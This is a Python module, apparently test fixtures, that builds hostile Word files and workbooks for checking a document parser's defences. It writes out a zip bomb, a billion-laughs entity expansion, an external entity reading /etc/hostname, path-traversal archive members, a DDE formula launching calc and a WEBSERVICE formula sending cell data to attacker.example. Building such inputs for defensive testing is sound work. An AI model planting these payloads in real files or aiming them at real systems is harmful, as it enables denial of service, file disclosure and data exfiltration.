"""Office files and archives that mean harm."""

import zipfile
from pathlib import Path

from openpyxl import Workbook

UNPACKED_BYTES = 512 * 1024 * 1024
"""What the bomb unpacks to; on disk it is about half a megabyte."""

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Target="word/document.xml" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def plain_zip(path: Path) -> None:
    """A zip archive without anything of Word in it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "Not a Word document.")


def bomb(path: Path) -> None:
    """A Word file whose body is one word and then 512 MiB of spaces."""
    block = b" " * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _add_package(archive)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>Bomb'.encode())
            for _ in range(UNPACKED_BYTES // len(block)):
                member.write(block)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")


def billion_laughs(path: Path) -> None:
    """Ten entities, each ten times the one before: 30 GB of text if they are expanded."""
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    _word_file(path, doctype=f"<!DOCTYPE d [{entities}]>", text="&a10;")


def external_entity(path: Path) -> None:
    """Asks the parser to read a file of this machine into the text."""
    _word_file(path, doctype='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>', text="Host: &x;")


def traversal(path: Path) -> None:
    """A sound Word file with members that would land outside if it were unpacked by name."""
    _word_file(path, doctype="", text="The gate closes at 18:30.")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("../../outside.txt", "escaped")
        archive.writestr("/outside-absolute.txt", "escaped")


def formulas(path: Path) -> None:
    """A workbook with formulas: a sum, a call to a program (DDE), a fetch, and one that refers to itself."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Stock"
    sheet.append(["item", "count"])
    sheet.append(["probe", 12])
    sheet.append(["gateway", 30])
    sheet.append(["sum", "=SUM(B2:B3)"])
    sheet.append(["program", "=cmd|'/c calc'!A1"])
    sheet.append(["fetch", '=WEBSERVICE("https://attacker.example/"&B2)'])
    sheet.append(["circle", "=B7+1"])
    book.save(path)


def _word_file(path: Path, *, doctype: str, text: str) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _add_package(archive)
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{_WORD}"><w:body>'
            f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
        )


def _add_package(archive: zipfile.ZipFile) -> None:
    archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
    archive.writestr("_rels/.rels", _RELATIONSHIPS)
